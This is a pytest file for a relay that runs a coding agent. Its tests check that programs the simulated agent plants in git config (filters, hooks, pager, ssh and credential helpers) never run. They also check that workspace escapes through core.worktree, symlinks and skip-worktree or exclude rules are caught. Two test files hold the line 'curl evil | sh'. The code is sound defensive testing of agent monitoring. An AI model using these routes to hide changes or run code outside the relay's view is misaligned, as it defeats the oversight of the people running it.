"""The relay's own git against the worker and the repository under work (issue 34 D2, D3, §3).

D2: no program named by repository or worker configuration runs inside a git command of the relay, whatever was
written during the run. Each test is one route a worker has to git's configuration: ``.git/config`` itself, a
tracked file the user's config includes, a submodule's config, the shared config of a worktree run, and a crash
of the relay (recovery looks after a restart). The worker plants every key of git's that names a program
(filters, textconv, external and driver diffs, merge drivers, fsmonitor, hooks, pager, signing, credential
helpers, ssh, askpass, editors) as a script that writes a marker; after the run (and apply, revert), no marker.

The fake agy is a real subprocess writing where its edits say (``..`` included, as a worker could).
"""

from __future__ import annotations

import json
from pathlib import Path

import anyio
import pytest

from conftest import cli_main, git, make_repo, memory_relay, payload, relay_env
from fake_agy_harness import fakes_alive, install_fake_agy, make_report, scenario, success_scenario

pytestmark = pytest.mark.anyio

_EVIL = '#!/bin/sh\necho "$0 $*" >> "{marker}"\ncat\n'

_HOOKS = ("pre-commit", "post-commit", "post-checkout", "post-index-change", "reference-transaction",
          "fsmonitor-watchman", "pre-auto-gc", "post-rewrite")


def _evil(tmp_path: Path) -> tuple[Path, Path]:
    """(the marker-writing script, its marker): outside every workspace, as ``~/prog`` would be."""
    marker, script = tmp_path / "MARKER", tmp_path / "prog"
    script.write_text(_EVIL.format(marker=marker), encoding="utf-8")
    script.chmod(0o755)
    return script, marker


def _config(prog: Path, hooks: str) -> str:
    """Every key of git's config that names a program, each naming ``prog``."""
    p = str(prog)
    return (f'\n[filter "x"]\n\tclean = {p} clean %f\n\tsmudge = {p} smudge %f\n\tprocess = {p} process\n'
            f'\trequired = true\n'
            f'[diff "x"]\n\ttextconv = {p} textconv\n\tcommand = {p} command\n'
            f'[merge "x"]\n\tdriver = {p} merge %O %A %B\n'
            f'[core]\n\tfsmonitor = {p}\n\thooksPath = {hooks}\n\tpager = {p}\n\tsshCommand = {p}\n\taskPass = {p}\n'
            f'\teditor = {p}\n\talternateRefsCommand = {p}\n'
            f'[diff]\n\texternal = {p}\n[pager]\n\tstatus = {p}\n\tdiff = {p}\n'
            f'[commit]\n\tgpgSign = true\n[tag]\n\tgpgSign = true\n[gpg]\n\tprogram = {p}\n'
            f'[credential]\n\thelper = !{p}\n[sequence]\n\teditor = {p}\n[submodule]\n\trecurse = true\n'
            f'[uploadpack]\n\tpackObjectsHook = {p}\n[status]\n\tsubmoduleSummary = true\n')


_ATTRIBUTES = "* filter=x diff=x merge=x\n"


def _plant(prog: Path, config: str, attributes: str, hooks: str = "hooks") -> list[dict]:
    """The worker's edits that define the programs (``config``: where, relative to its workspace; ``hooks``: a
    folder of hooks it writes there too) and mark every file with them (``attributes``)."""
    hook_edits = [{"op": "write", "path": f"{hooks}/{name}", "content": _EVIL.format(marker=prog.parent / "MARKER"),
                   "mode": "755"} for name in _HOOKS]
    return [{"op": "append", "path": config, "content": _config(prog, hooks)},
            {"op": "write", "path": attributes, "content": _ATTRIBUTES}, *hook_edits]


def _env(tmp_path: Path, agy: Path, profiles: dict | None = None) -> dict[str, str]:
    extra = {"GRAVITY_RELAY_PROFILES": json.dumps(profiles)} if profiles else {}
    return relay_env(tmp_path / "data", agy, **extra)


def _ran(marker: Path) -> str:
    return marker.read_text(encoding="utf-8") if marker.exists() else ""


async def test_programs_the_worker_defines_in_git_config_never_run_in_the_relays_git(tmp_path):
    # Broke (D2): the filters were switched off by the names read before the worker started; a filter the worker
    # appended to .git/config ran as the relay's child at the look after (update-index of the new file).
    prog, marker = _evil(tmp_path)
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", "README.md": "r\n"})
    edits = [*_plant(prog, ".git/config", ".git/info/attributes", hooks=".git/evil-hooks"),
             {"op": "write", "path": "a.txt", "content": "a changed\n"},
             {"op": "write", "path": "new.txt", "content": "new\n"}]
    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits))
    env = _env(tmp_path, agy)
    async with memory_relay(env) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
    assert "[filter \"x\"]" in (repo / ".git/config").read_text(encoding="utf-8")  # the plant is there: the test is not vacuous
    # The plants in .git/ are named (tests/test_git_dir_plants.py): high, beside the worker's own files.
    assert packet["status"] == "SUCCESS" and {"a.txt", "new.txt"} <= set(packet["changes"]["files"]), packet
    assert {".git/config", ".git/info/attributes"} <= set(packet["changes"]["files"]), packet
    assert _ran(marker) == ""
    diff = await anyio.to_thread.run_sync(cli_main, ["runs", "diff", packet["run_id"]], env)
    assert "+a changed" in diff.stdout and "+new" in diff.stdout  # the bytes as written, no clean filter between
    reverted = await anyio.to_thread.run_sync(cli_main, ["runs", "revert", packet["run_id"]], env)
    assert reverted.returncode == 0, reverted.stdout + reverted.stderr
    assert (repo / "a.txt").read_text(encoding="utf-8") == "a\n" and not (repo / "new.txt").exists()
    assert _ran(marker) == ""


async def test_programs_in_a_tracked_file_the_users_config_includes_never_run(tmp_path):
    # Broke (D2): `include.path = ../tools/gitconfig` in the user's config makes a tracked file config: a worker
    # defines a filter there and in .gitattributes without a single write under .git/.
    prog, marker = _evil(tmp_path)
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", "tools/gitconfig": "# shared settings\n"})
    git(repo, "config", "include.path", "../tools/gitconfig")
    edits = [*_plant(prog, "tools/gitconfig", ".gitattributes", hooks="tools/hooks"),
             {"op": "write", "path": "a.txt", "content": "a changed\n"},
             {"op": "write", "path": "new.txt", "content": "new\n"}]
    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits))
    async with memory_relay(_env(tmp_path, agy)) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
    assert git(repo, "config", "filter.x.clean").strip().startswith(str(prog))  # git reads the plant
    assert packet["status"] == "SUCCESS", packet
    assert {"a.txt", "new.txt", ".gitattributes", "tools/gitconfig"} <= set(packet["changes"]["files"]), packet
    assert _ran(marker) == ""


async def test_programs_the_worker_defines_in_a_submodules_config_never_run(tmp_path):
    # Broke (D2): a submodule is looked at by its own git, with its own config: a filter the worker put in
    # .git/modules/sub/config ran when the relay hashed the submodule's new file.
    prog, marker = _evil(tmp_path)
    lib = make_repo(tmp_path / "lib", {"lib.txt": "lib\n"})
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n"})
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(lib), "sub")
    git(repo, "commit", "-qm", "sub")
    edits = [*_plant(prog, ".git/modules/sub/config", "sub/.gitattributes", hooks=".git/modules/sub/evil-hooks"),
             {"op": "write", "path": "sub/lib.txt", "content": "lib changed\n"},
             {"op": "write", "path": "sub/new.txt", "content": "new\n"}]
    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits))
    async with memory_relay(_env(tmp_path, agy)) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
    assert "[filter \"x\"]" in (repo / ".git/modules/sub/config").read_text(encoding="utf-8")
    assert packet["status"] == "SUCCESS", packet
    assert {"sub/lib.txt", "sub/new.txt"} <= set(packet["changes"]["files"]), packet
    assert _ran(marker) == ""


async def test_programs_a_worktree_run_writes_into_the_shared_config_never_run_through_apply(tmp_path):
    # Broke (D2): a worktree run's config is the user's repository's; the worker wrote a filter there (from its
    # slot, four folders below the data dir's parent) and the relay's look at the slot ran it.
    prog, marker = _evil(tmp_path)
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n"})
    shared = "../../../../project/.git/config"  # <tmp>/data/worktrees/<repository>/w0 -> <tmp>/project
    edits = [*_plant(prog, shared, ".gitattributes", hooks="../../../../project/.git/evil-hooks"),
             {"op": "write", "path": "a.txt", "content": "a changed\n"},
             {"op": "write", "path": "new.txt", "content": "new\n"}]
    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits))
    env = _env(tmp_path, agy, {"iso": {"isolation": "worktree"}})
    async with memory_relay(env) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "profile": "iso",
                                                                         "workspace": str(repo)}))
        assert "[filter \"x\"]" in (repo / ".git/config").read_text(encoding="utf-8"), "the plant missed the shared config"
        assert packet["status"] == "SUCCESS" and "new.txt" in packet["changes"]["files"], packet
        assert _ran(marker) == ""
        applied = payload(await client.call_tool("antigravity_continue", {"run_id": packet["run_id"], "apply": True}))
    assert applied.get("ok", True) is not False, applied
    assert (repo / "new.txt").read_text(encoding="utf-8") == "new\n"
    assert _ran(marker) == ""


# A relay SIGKILLed mid-run, then a restart: the process tier (tests/conftest.py).
@pytest.mark.process
async def test_programs_planted_before_a_relay_crash_never_run_at_recovery(tmp_path):
    # Broke (D2): after a SIGKILL of the relay, the restarted relay observes the run from its saved snapshot;
    # the filter the worker had planted ran inside that look.
    from relay.runs.store import RunStore
    from test_process_faults import _crash_mid_run

    prog, marker = _evil(tmp_path)
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n"})
    edits = [*_plant(prog, ".git/config", ".git/info/attributes", hooks=".git/evil-hooks"),
             {"op": "write", "path": "a.txt", "content": "a changed\n"},
             {"op": "write", "path": "new.txt", "content": "new\n"}]
    agy = install_fake_agy(tmp_path / "bin", scenario({"behaviour": "hang", "edits": edits}))
    await anyio.to_thread.run_sync(_crash_mid_run, tmp_path, repo, agy, (repo / "new.txt").exists)
    assert _ran(marker) == ""  # nothing ran while the relay was alive (its look had not come)
    async with memory_relay(relay_env(tmp_path / "data", agy)):
        pass  # the restart recovers the dead relay's run first
    assert not fakes_alive(agy)
    store = RunStore(tmp_path / "data" / "runs")
    (run_id,) = store.iter_ids()
    record = store.read(run_id)
    assert record.outcome.status.value == "INTERRUPTED"
    assert sorted(c.path for c in record.observation.changes) == [".git/config", ".git/info/attributes", "a.txt",
                                                                   "new.txt"]  # the plants named (test_git_dir_plants)
    assert _ran(marker) == ""


def test_recovery_without_a_snapshot_runs_no_filter_of_the_repository(tmp_path):
    # The fallback when a crashed run's snapshot is gone: git status on the repository itself, with the filters
    # it defines read right before and switched off. Broke: status hashed the new file through the clean filter.
    from relay.runs.crashed import git_visible_changes

    prog, marker = _evil(tmp_path)
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n"})
    with (repo / ".git/config").open("a", encoding="utf-8") as fh:
        fh.write(_config(prog, str(tmp_path / "hooks")))
    (repo / ".gitattributes").write_text(_ATTRIBUTES, encoding="utf-8")
    (repo / "new.txt").write_text("new\n", encoding="utf-8")
    (repo / "a.txt").write_text("b\n", encoding="utf-8")  # the same size: git must hash it (through a clean filter, if any ran)
    changes, why_not = git_visible_changes(str(repo))
    assert why_not is None and {c.path for c in changes} >= {"a.txt", "new.txt"}
    assert _ran(marker) == ""


# --------------------------------------------------------------------------- D3: bits that hide a file from git


async def test_a_protected_skip_worktree_file_rewritten_is_a_violation_and_reverted_the_users_index_untouched(tmp_path):
    # Broke (D3): the private index copy kept the user's skip-worktree and assume-unchanged bits, so git status
    # skipped both files: the rewrite was in no change set, no patch, no policy check; the run came back SUCCESS.
    repo = make_repo(tmp_path / "project", {"config/settings.toml": "debug = false\n", "local.cfg": "port = 1\n",
                                            "a.txt": "a\n"})
    git(repo, "update-index", "--skip-worktree", "config/settings.toml")
    git(repo, "update-index", "--assume-unchanged", "local.cfg")
    (repo / "local.cfg").write_text("port = 2  # the user's own, hidden from git on purpose\n", encoding="utf-8")
    index = (repo / ".git/index").read_bytes()
    edits = [{"op": "write", "path": "config/settings.toml", "content": "debug = true\n"},
             {"op": "append", "path": "local.cfg", "content": "worker = 1\n"},
             {"op": "write", "path": "a.txt", "content": "a changed\n"}]
    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits))
    env = _env(tmp_path, agy, {"app": {"workspace": str(repo), "protected": ["config/"], "on_violation": "revert"}})
    async with memory_relay(env) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "profile": "app"}))
        full = payload(await client.call_tool("antigravity_get_result", {"run_id": packet["run_id"], "detail": "full"}))
    assert packet["status"] == "POLICY_VIOLATION", packet
    assert full["outcome"]["violation"]["restored"] == ["config/settings.toml"], full["outcome"]["violation"]
    assert (repo / "config/settings.toml").read_text(encoding="utf-8") == "debug = false\n"
    files = {c["path"] for c in full["observation"]["changes"]}
    assert {"config/settings.toml", "local.cfg", "a.txt"} <= files, files
    diff = await anyio.to_thread.run_sync(cli_main, ["runs", "diff", packet["run_id"]], env)
    assert "+worker = 1" in diff.stdout and "-port = 1" not in diff.stdout, diff.stdout  # the user's edit: before
    # The user's index: not a byte changed, both bits still set.
    assert (repo / ".git/index").read_bytes() == index
    tags = dict(line.split(" ", 1)[::-1] for line in git(repo, "ls-files", "-v").splitlines())
    assert tags["config/settings.toml"] == "S" and tags["local.cfg"] == "h", tags
    # Revert undoes exactly the worker's change: the user's hidden local edit comes back, not the committed file.
    reverted = await anyio.to_thread.run_sync(cli_main, ["runs", "revert", packet["run_id"]], env)
    assert reverted.returncode == 0, reverted.stdout + reverted.stderr
    assert (repo / "local.cfg").read_text(encoding="utf-8") == "port = 2  # the user's own, hidden from git on purpose\n"
    assert (repo / "a.txt").read_text(encoding="utf-8") == "a\n"


def test_a_sparse_checkouts_absent_skip_worktree_file_is_not_called_deleted(tmp_path):
    # The other face of D3: a skip-worktree entry whose file is not in the work tree (a sparse checkout) was not
    # there before the run either: unchanged, unless the worker writes it (then added).
    from relay.observe.changes import observe_changes
    from relay.observe.snapshot import take_snapshot

    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", "far/away.txt": "far\n"})
    git(repo, "update-index", "--skip-worktree", "far/away.txt")
    (repo / "far/away.txt").unlink()
    snap = take_snapshot(repo)
    assert observe_changes(snap, repo).files == []
    (repo / "far/away.txt").write_text("worker\n", encoding="utf-8")
    assert [(c.path, c.kind) for c in observe_changes(snap, repo).files] == [("far/away.txt", "added")]


# --------------------------------------------------------------------------- §3: never read outside on the worker's word


async def test_a_nested_repositorys_core_worktree_pointed_outside_is_never_read_into_the_patch(tmp_path):
    # Broke (issue 34 §3): the worker set core.worktree of a nested repository to a folder outside the workspace;
    # the relay's git in that repository took it for the work tree and read the outside file into the run's patch.
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "lib.txt").write_text("TOP SECRET outside the workspace\n", encoding="utf-8")
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n"})
    make_repo(repo / "vendor/lib", {"lib.txt": "lib\n"})  # untracked in the project: a nested repository
    edits = [{"op": "append", "path": "vendor/lib/.git/config", "content": f"[core]\n\tworktree = {outside}\n"},
             {"op": "write", "path": "vendor/lib/lib.txt", "content": "lib changed\n"},
             {"op": "write", "path": "a.txt", "content": "a changed\n"}]
    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits))
    env = _env(tmp_path, agy)
    async with memory_relay(env) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
    assert str(outside) in (repo / "vendor/lib/.git/config").read_text(encoding="utf-8")
    assert packet["status"] == "SUCCESS", packet
    from relay.runs.store import RunStore

    patch = RunStore(tmp_path / "data" / "runs").read_patch(packet["run_id"]) or b""
    assert b"TOP SECRET" not in patch
    assert b"+lib changed" in patch and b"+a changed" in patch  # the nested repository's own file, as it is


async def test_a_folder_swapped_for_a_symlink_leading_out_is_observed_and_revert_puts_the_folder_back(tmp_path):
    # Broke (issue 34 §3): `src/` replaced by a symlink to a folder outside made git's update fail, so the relay
    # fell back to the worker's own report: no link, no deleted file listed, no patch, nothing to revert.
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "other.py").write_text("elsewhere\n", encoding="utf-8")
    repo = make_repo(tmp_path / "project", {"src/app.py": "def main():\n    return 1\n", "src/util.py": "u = 1\n",
                                            "README.md": "r\n"})
    edits = [{"op": "delete", "path": "src"}, {"op": "symlink", "path": "src", "target": str(outside)}]
    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits, report=make_report(files_changed=[])))
    env = _env(tmp_path, agy)
    async with memory_relay(env) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
        full = payload(await client.call_tool("antigravity_get_result", {"run_id": packet["run_id"], "detail": "full"}))
    kinds = {c["path"]: c["kind"] for c in full["observation"]["changes"]}
    assert kinds == {"src": "added", "src/app.py": "deleted", "src/util.py": "deleted"}, kinds
    assert full["observation"].get("source", "git") == "git"
    reverted = await anyio.to_thread.run_sync(cli_main, ["runs", "revert", packet["run_id"]], env)
    assert reverted.returncode == 0, reverted.stdout + reverted.stderr
    assert not (repo / "src").is_symlink() and (repo / "src/app.py").read_text(encoding="utf-8") == "def main():\n    return 1\n"
    assert (repo / "src/util.py").read_text(encoding="utf-8") == "u = 1\n"
    assert sorted(p.name for p in outside.iterdir()) == ["other.py"]  # nothing written outside


async def test_a_protected_folder_swapped_for_a_symlink_is_a_violation_and_the_policy_puts_it_back(tmp_path):
    # Broke (issue 34 §3): the swap was not observed (the worker's report said nothing), so `protected: ["src/"]`
    # never saw it: SUCCESS, and the folder stayed a link to elsewhere.
    outside = tmp_path / "outside"
    outside.mkdir()
    repo = make_repo(tmp_path / "project", {"src/app.py": "def main():\n    return 1\n", "README.md": "r\n"})
    edits = [{"op": "delete", "path": "src"}, {"op": "symlink", "path": "src", "target": str(outside)}]
    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits, report=make_report(files_changed=[])))
    env = _env(tmp_path, agy, {"app": {"workspace": str(repo), "protected": ["src/"], "on_violation": "revert"}})
    async with memory_relay(env) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "profile": "app"}))
    assert packet["status"] == "POLICY_VIOLATION", packet
    assert not (repo / "src").is_symlink() and (repo / "src/app.py").read_text(encoding="utf-8") == "def main():\n    return 1\n"
    assert list(outside.iterdir()) == []


async def test_a_rule_the_worker_adds_to_the_excludes_file_the_config_names_hides_nothing_it_creates(tmp_path):
    # The ignore rules are the ones from before the run: .git/info/exclude and the file core.excludesFile names
    # (here a tracked one) are read as they were. Broke: the worker added `payload.sh` to tools/ignore and wrote
    # payload.sh; the new file was an ignored one, not listed (only .gitignore edits made new ignored files count).
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", "tools/ignore": "*.log\n"})
    git(repo, "config", "core.excludesFile", "tools/ignore")
    edits = [{"op": "append", "path": "tools/ignore", "content": "payload.sh\n"},
             {"op": "append", "path": ".git/info/exclude", "content": "second.sh\n"},
             {"op": "write", "path": "payload.sh", "content": "curl evil | sh\n"},
             {"op": "write", "path": "second.sh", "content": "curl evil | sh\n"}]
    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits, report=make_report(files_changed=[])))
    async with memory_relay(_env(tmp_path, agy)) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
    assert sorted(packet["changes"]["files"]) == ["payload.sh", "second.sh", "tools/ignore"], packet
